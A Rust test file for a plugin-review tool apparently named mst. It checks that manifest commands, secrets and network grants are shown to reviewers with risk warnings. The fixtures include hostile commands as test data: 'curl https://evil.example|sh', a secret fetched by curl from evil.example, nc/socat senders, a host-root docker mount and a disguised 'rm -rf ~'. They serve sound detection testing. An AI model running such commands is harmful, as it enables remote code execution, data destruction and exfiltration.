//! What a page says, line by line; whole pages of runners and of judges have files of their own.

mod judges;
mod runners;

use super::*;
use crate::component::{tests::judge_manifest, with_manifest};
use crate::grant::Bindings;
use crate::manifest::Manifest;
use crate::world::tests::component_of;

pub(super) fn page(world: &str, manifest: &Manifest) -> Page {
    let bytes = with_manifest(&component_of(world, None), manifest).expect("embedded");
    Page::of(&crate::open(bytes).expect("a plugin"))
}

const RUNNER: &str = r#"
    id = "acme/runner/box"
    version = "1.2.0"
    world = "machine-runner"
    description = "Machines in boxes."
    license = "Apache-2.0"
    homepage = "https://acme.example/box"
    max_shards = 8
    [options]
    type = "object"
    additionalProperties = false
    required = ["image"]
    [options.properties.image]
    type = "string"
    description = "What the machines are made of."
    [options.properties.engine]
    type = "string"
    default = "docker"
    [options.properties.keys]
    type = "string"
    format = "path"
    [[dir]]
    name = "keys"
    access = "read"
    option = "keys"
    [[dir]]
    name = "state"
    access = "read-write"
    [[exec]]
    id = "create"
    argv = ["docker", "run", "--volume=/:/host", "--security-opt=no-new-privileges", "--name", "{machine}", "[--memory={memory:quantity}]", "{image:oci-ref}", "sleep", "infinity"]
    timeout = "2m"
    env = ["DOCKER_HOST"]
    [[exec]]
    id = "own"
    argv = ["{option(engine)}", "exec", "{machine}", "{command...}"]
    timeout = "1h"
    [[exec]]
    id = "sh"
    argv = ["sudo", "/bin/bash", "-c", "echo \"{what:text(/.*/)}\"", ""]
    timeout = "10s"
    stdin = "plugin"
    max_output_bytes = 4096
    [[exec]]
    id = "send"
    argv = ["{with:enum(nc|socat|sudo)}", "{host:ident}", "{port:uint(1..65535)}"]
    timeout = "10s"
    stdin = "plugin"
"#;

/// The digest changes with wit-component; the rest is what a reviewer reads.
fn text(page: &Page) -> String {
    page.to_string()
        .replace(&page.digest.to_string(), "sha256:…")
        .replace(&format!("{} bytes", page.size_bytes), "N bytes")
}

/// One of everything that is worth stopping at beside commands.
const JUDGE: &str = r#"
    id = "acme/judge/model"
    version = "2.0.0"
    world = "judge"
    description = "Asks a model. [click](https://evil.example) <b>@all</b>"
    env = ["ACME_REGION", "ACME_TOKEN"]
    [options]
    type = "object"
    [options.properties.command]
    type = "array"
    default = ["make", "test"]
    [[http]]
    to = "https://*.acme.com"
    methods = ["POST", "GET"]
    [[http]]
    to = "https://127.0.0.1:8443"
    methods = ["GET"]
    private = true
    [[secret]]
    name = "api-key"
    about = "Signs requests to the model."
    to = ["https://api.acme.com", "https://*.eu.acme.com"]
    [[secret]]
    name = "idle"
    about = "Nothing."
    [[workspace]]
    id = "check"
    argv = ["{option(command)}"]
    timeout = "1h"
"#;

fn judges_page() -> Page {
    let manifest = Manifest::from_toml(JUDGE).expect("valid");
    let keys = ["http:https://*.acme.com", "secret:api-key"].map(|key| key.parse::<Key>().expect("a key"));
    let granted = Granted::only(std::sync::Arc::new(manifest.clone()), keys);
    let mut policy = crate::Policy::default();
    let text = "schema = 'mst.policy/v1'\nprivate_addresses = false\nplugins = ['mst/*/*']";
    policy.add("/etc/mst/policy.toml", text).expect("a policy");
    page("judge", &manifest)
        .with_grants(&granted)
        .with_pinned(Digest::of(b"another"))
        .held_to(&policy, &BTreeMap::new())
}

#[test]
fn an_environment_that_all_commands_get_is_said_once() {
    let with = |first: &str, second: &str| {
        let manifest = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
             [[exec]]\nid='s'\nargv=['x']\ntimeout='1s'\nenv={first}\n\
             [[exec]]\nid='t'\nargv=['y']\ntimeout='1s'\nenv={second}"
        );
        let page = page("machine-runner", &Manifest::from_toml(&manifest).expect("valid"));
        let text = page.to_string();
        let text = text.split_once("Commands\n").expect("it asks").1;
        text.split_once("\nOptions").expect("more follows").0.to_owned()
    };
    insta::assert_snapshot!(with("['A', 'B']", "['A', 'B']"), @"
      Each runs as you, on this machine: it may do what you may. It begins in an
      empty directory, with your PATH, your HOME and what its marks name, and an
      empty stdin where nothing else is said. The plugin can have these lines run
      and no others, when it likes, 10,000 times a call of its own at most. One is
      killed when its own time or the call that runs it is over, with what it
      started here, as far as mst finds that; what it began in a container or on a
      host may go on. A machine stays until the plugin's line that removes it has
      run: mst asks for that when done with it, and in `mst machines reap`.
      Of each of them:
          ! gets of your environment: `A`, `B`
      Where nothing else is said, the plugin reads 1 MiB of stdout and of stderr.

    Asks for, each by the plugin's name for it
      exec:s (at most 1s)
          x
      exec:t (at most 1s)
          y
    ");
    assert!(!with("['A', 'B']", "['A']").contains("Of each of them"));
    assert!(!with("[]", "[]").contains("Of each of them"));
}

#[test]
fn what_a_judges_command_is_worth_stopping_at() {
    let manifest = |argv: &str| {
        Manifest::from_toml(&format!(
            "id='a/judge/b'\nversion='1.0.0'\nworld='judge'\ndescription='d'\n\
             [options]\ntype='object'\n[options.properties.command]\ntype='array'\n\
             [[workspace]]\nid='t'\nargv={argv}\ntimeout='1s'"
        ))
        .expect("valid")
    };
    let risks = |argv: &str| {
        let marks = risk::of(&manifest(argv), &manifest(argv).requests()[0]);
        marks.into_iter().map(|mark| mark.text).collect::<Vec<_>>()
    };
    // Whatever it is: a suite of tests is the client's as much as the script in its workspace.
    let beside = "what it runs or reads there (tests, build files, configuration) may be the evaluated client's own work, run as you";
    assert_eq!(risks("['cargo', 'test']"), [beside]);
    assert_eq!(
        risks("['{option(command)}']"),
        [beside, "the user's own command, run as you: your option `command`"]
    );
    assert_eq!(risks("['./test.sh']"), [beside, "a file beside your eval, run as a program: `./test.sh`"]);
    assert_eq!(
        risks("['/usr/bin/python3.12', '-c', 'x']"),
        [beside, "an interpreter: `python` can run programs from its arguments"]
    );
}

#[test]
fn the_json_has_all_of_it() {
    let page = page("machine-runner", &Manifest::from_toml(RUNNER).expect("valid"));
    let json = serde_json::to_value(&page).expect("JSON");
    for key in [
        "id",
        "version",
        "world",
        "contract",
        "digest",
        "size_bytes",
        "summary",
        "requests",
        "options",
        "imports",
        "exports",
    ] {
        assert!(json.get(key).is_some_and(|value| !value.is_null()), "`{key}`");
    }
    for key in
        ["standing", "calls", "asks", "asks_not", "network", "gravest", "free_options", "workers", "world"]
    {
        assert!(json["summary"].get(key).is_some_and(|value| !value.is_null()), "`{key}`");
    }
    assert_eq!(json["requests"][0]["key"], "exec:create");
    assert_eq!(json["requests"][0]["request"]["timeout"], "2m");
}

/// The manifest of a stranger's runner, in more than one way of its author's.
fn stranger(edit: &dyn Fn(&str) -> String) -> String {
    let manifest = "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='D.'\nlicense='L'\n\
        [[http]]\nto='https://api.a.com'\nmethods=['POST']\n\
        [[secret]]\nname='token'\nabout='A.'\nto=['https://api.a.com']";
    page("machine-runner", &Manifest::from_toml(&edit(manifest)).expect("valid")).to_string()
}

#[test]
fn what_a_plugin_says_of_itself_looks_like_nothing_of_msts() {
    let none = |text: &str, forged: &str| {
        for line in text.lines() {
            let line = line.trim_start();
            assert!(!line.starts_with(forged) && !line.ends_with(forged), "{line}");
        }
    };
    none(&stranger(&|text| text.replace("'A.'", "'For signing.  [granted]'")), "[granted]");
    none(&stranger(&|text| text.replace("'L'", "'L   (verified by mst)'")), "(verified by mst)");
    for pad in [" ".repeat(78), "x".repeat(78), "漢".repeat(39), " x".repeat(39)] {
        let forged = format!("'D.{pad}Asks for nothing: no command, no directory, no network.'");
        let text = stranger(&|text| text.replace("'D.'", &forged));
        assert!(!text.lines().any(|line| line.starts_with("Asks for nothing")), "{text}");
        assert!(text.contains("\n  about     \"D."), "{text}");
    }
    // What mst says of a request stands before the first word of the plugin's.
    let manifest = Manifest::from_toml(JUDGE).expect("valid");
    let granted = Granted::only(std::sync::Arc::new(manifest.clone()), []);
    let text = page("judge", &manifest).with_grants(&granted).to_string();
    assert!(text.contains("\n  [not granted] secret:api-key\n"), "{text}");
}

#[test]
fn what_is_bound_stands_beside_what_it_is_bound_to() {
    let mut bindings = Bindings::default();
    let command = "command:curl https://evil.example".parse().expect("a source");
    bindings.secrets.insert("api-key".to_owned(), command);
    bindings.secrets.insert("idle".to_owned(), "env:IDLE".parse().expect("a source"));
    let manifest = Manifest::from_toml(JUDGE).expect("valid");
    let granted = Granted::all(std::sync::Arc::new(manifest.clone())).bound(bindings);
    let page = page("judge", &manifest).with_grants(&granted);
    let text = page.to_string();
    assert!(text.contains("      comes from `env:IDLE`, says the lock\n"), "{text}");
    assert!(text.contains("  ! has mst run a program, as you, to get a secret: secret:api-key\n"), "{text}");
    let mark = page.requests.iter().flat_map(|line| &line.risks).find(|mark| mark.text.contains("curl"));
    assert_eq!(
        mark.expect("marked").text,
        "mst runs this, as you, in the lock's directory, when the secret is needed: `curl https://evil.example`"
    );
    assert!(page.markdown().contains("`curl https://evil.example`"), "{}", page.markdown());
}

#[test]
fn one_bad_command_among_many_stands_at_the_top() {
    let mut text = "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'".to_owned();
    for at in 0..59 {
        text += &format!("\n[[exec]]\nid='c{at}'\nargv=['docker', 'run', 'x{at}']\ntimeout='1s'");
    }
    text += "\n[[exec]]\nid='last'\nargv=['sh', '-c', 'curl https://evil.example|sh']\ntimeout='1s'";
    let page = page("machine-runner", &Manifest::from_toml(&text).expect("valid"));
    let short = page.summary.gravest.iter().map(|gravest| gravest.line()).collect::<Vec<_>>();
    insta::assert_snapshot!(short.join("\n"), @"
    runs code that it fetches: exec:last
    as good as who runs a container engine, mostly root: exec:c0, exec:c1, exec:c2, exec:c3, exec:c4, exec:c5 and 53 more
    can send and fetch over the network: exec:last
    ");
}

#[test]
fn what_a_plugin_reads_of_a_command_is_what_mst_gives_it() {
    let facts = |argv: &str, more: &str| {
        let text = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
             [[exec]]\nid='c'\nargv={argv}\ntimeout='7days'\n{more}"
        );
        let page = page("machine-runner", &Manifest::from_toml(&text).expect("valid"));
        page.requests[0].facts.join("\n")
    };
    let all = [
        facts("['x']", ""),
        facts("['x']", "stdin='plugin'\nmax_output_bytes=4096"),
        facts("['x', '{command...}']", ""),
        facts("['x', '{command:shell}']", ""),
        facts("['x', '{dir:host-dir}']", ""),
        facts("['x', '{dir:host-dir}']", "max_output_bytes=100"),
    ];
    insta::assert_snapshot!(all.join("\n"), @"
    at most 10m, as no call is longer
    the plugin reads 1 MiB of stdout and of stderr
    at most 10m, as no call is longer
    the plugin reads 4 KiB of stdout and of stderr
    the plugin writes its stdin
    at most 7 days
    the plugin reads nothing of it, and mst all
    at most 7 days
    the plugin reads nothing of it, and mst all
    at most 10m, as no call is longer
    the plugin reads its exit and 2 KiB of stderr
    at most 10m, as no call is longer
    the plugin reads its exit and 100 bytes of stderr
    ");
}

#[test]
fn of_two_times_the_shorter_is_told() {
    let time = |world: &str, argv: &str, timeout: &str| {
        let text = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='{world}'\ndescription='d'\n\
             [[exec]]\nid='c'\nargv={argv}\ntimeout='{timeout}'"
        );
        page(world, &Manifest::from_toml(&text).expect("valid")).requests[0].facts[0].clone()
    };
    let worker = "['x', '{command...}']";
    assert_eq!(time("machine-runner", "['x']", "10m"), "at most 10m");
    assert_eq!(time("machine-runner", "['x']", "11m"), "at most 10m, as no call is longer");
    // It outlives the call that starts it, but not one that carries the whole shard.
    assert_eq!(time("machine-runner", worker, "30days"), "at most 30 days");
    assert_eq!(time("shard-runner", worker, "30days"), "at most 7 days, as no call is longer");
    assert_eq!(time("shard-runner", "['x']", "7days"), "at most 7 days");
}

#[test]
fn a_page_says_who_picks_a_directory_and_who_leaves_a_group_out() {
    let words = |world: &str, argv: &str| {
        let text = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='{world}'\ndescription='d'\n\
             [options]\ntype='object'\n[options.properties.o]\ntype='string'\n\
             [[exec]]\nid='c'\nargv={argv}\ntimeout='1s'"
        );
        let page = page(world, &Manifest::from_toml(&text).expect("valid")).to_string();
        page.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    let copies = "['x', '{dir:host-dir}']";
    assert!(
        words("machine-runner", copies).contains(
            "a call that copies, by no path of the plugin's: what goes to a machine, or an empty one"
        )
    );
    assert!(words("shard-runner", copies).contains(
        "one of mst's directories, of the plugin's choice: what goes to a machine, or an empty one"
    ));
    let may = "left out where its slot is empty, and the plugin may leave its own empty";
    assert!(words("machine-runner", "['x', '[--a={option(o)}]', '[--b={b:ident}]']").contains(may));
    let users = words("machine-runner", "['x', '[--a={option(o)}]', '{b:ident}']");
    assert!(users.contains("left out where its slot is empty") && !users.contains(may), "{users}");
}

#[test]
fn a_break_of_the_pages_is_told_from_one_in_a_command() {
    let long = "x".repeat(100);
    let text = format!(
        "id='a/runner/b'\nversion='1.0.0'\nworld='machine-runner'\ndescription='d'\n\
         [[exec]]\nid='c'\ntimeout='1s'\nargv=['sh', '-c', \"# harmless\\nrm -rf ~\", '# no\\n', \"a  b\\tp\u{430}y\", '{long}']"
    );
    let page = page("machine-runner", &Manifest::from_toml(&text).expect("valid")).to_string();
    let lines = page.split_once("  exec:c (at most 1s; the plugin reads 1 MiB of stdout and of stderr)\n");
    let lines = lines.expect("it asks").1.split_once("      !").expect("marked").0;
    insta::assert_snapshot!(format!("\n{lines}"), @r"

        sh -c $'# harmless\nrm -rf ~' '# no\n' $'a \x20b\tp\u0430y' \
            xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\
            xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
    ");
    assert!(page.contains("      $'...'  the same with escapes: \\n is a new line, \\t a tab"), "{page}");
}

#[test]
fn the_commands_that_may_be_given_tokens_are_named() {
    let words = |argvs: &[&str]| {
        let mut text = "id='a/runner/b'\nversion='1.0.0'\nworld='shard-runner'\ndescription='d'".to_owned();
        for (at, argv) in argvs.iter().enumerate() {
            text += &format!("\n[[exec]]\nid='c{at}'\nargv={argv}\ntimeout='1s'");
        }
        let page = page("shard-runner", &Manifest::from_toml(&text).expect("valid")).to_string();
        page.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    let two = words(&["['a', '{command...}']", "['b']", "['sh', '-c', '{command:shell}']"]);
    assert!(two.contains("Only exec:c0, exec:c2 can be handed over to mst as the worker"), "{two}");
    assert!(two.contains("the values of the eval's tokens go to exec:c0, exec:c2,"), "{two}");
    let none = words(&["['a']", "['b', '{x:host-dir}']"]);
    assert!(none.contains("mst speaks with none of them, and no run can be done with it."), "{none}");
    assert!(!none.contains("handed over") && !none.contains("tokens go to"), "{none}");
}

#[test]
fn shards_are_said_to_be_apart_only_where_each_has_a_container() {
    let said = |world: &str, argv: &str| {
        let text = format!(
            "id='a/runner/b'\nversion='1.0.0'\nworld='{world}'\ndescription='d'\n\
             [[exec]]\nid='c'\nargv={argv}\ntimeout='1s'"
        );
        page(world, &Manifest::from_toml(&text).expect("valid")).summary.world[0].to_string()
    };
    let apart = "['docker', 'exec', '-i', '{machine}', '{command...}']";
    let machine = said("machine-runner", apart);
    assert!(machine.contains("the container made for each part") && !machine.contains("share"), "{machine}");
    assert!(!said("shard-runner", apart).contains("share"));
    for argv in [
        "['docker', 'exec', '-i', 'one', '{command...}']",
        "['ssh', '--', 'h', 'exec {command:shell}']",
        "['box', '{machine}', '{command...}']",
    ] {
        let said = said("machine-runner", argv);
        assert!(said.contains("Shards that share an account on a host can read"), "{argv}: {said}");
        assert!(!said.contains("the container made"), "{argv}: {said}");
    }
    let here = said("shard-runner", "['sh', '-c', 'exec {command:shell}']");
    assert!(here.contains("Shards share your account here, and can read"), "{here}");
}

#[test]
fn what_a_judge_reads_of_a_trial_is_what_it_calls() {
    let mut page = page("judge", &judge_manifest());
    let said = |page: &Page| Summary::of(page).world[0].clone().into_owned();
    let evidence = page.imports.iter().position(|import| import.name.contains("/evidence@")).expect("it is");
    let mut of = |functions: &[&str]| {
        let named = functions.iter().map(|function| format!("[method]trial.{function}"));
        page.imports[evidence].functions = named.collect();
        said(&page)
    };
    assert_eq!(
        of(&["report"]),
        "It reads of each trial that it grades: the client's report; and decides its score."
    );
    assert_eq!(
        of(&["eval-case", "entries"]),
        "It reads of each trial that it grades: the prompt, the expected answer, the names of its files; and decides its score."
    );
    for (function, what) in [
        ("entries", "the names of its files"),
        ("variant-id", "which variant it is of"),
        ("trial-index", "which of a case's trials it is"),
    ] {
        let all = format!("It reads of each trial that it grades: {what}; and decides its score.");
        assert_eq!(of(&[function]), all);
    }
    assert_eq!(of(&[]), "It reads nothing of the trials that it grades, and decides their scores.");
    page.requests = judges_page().requests;
    assert_eq!(
        said(&page),
        "It reads nothing of a trial itself, only what its commands print of it, and decides its score."
    );
}
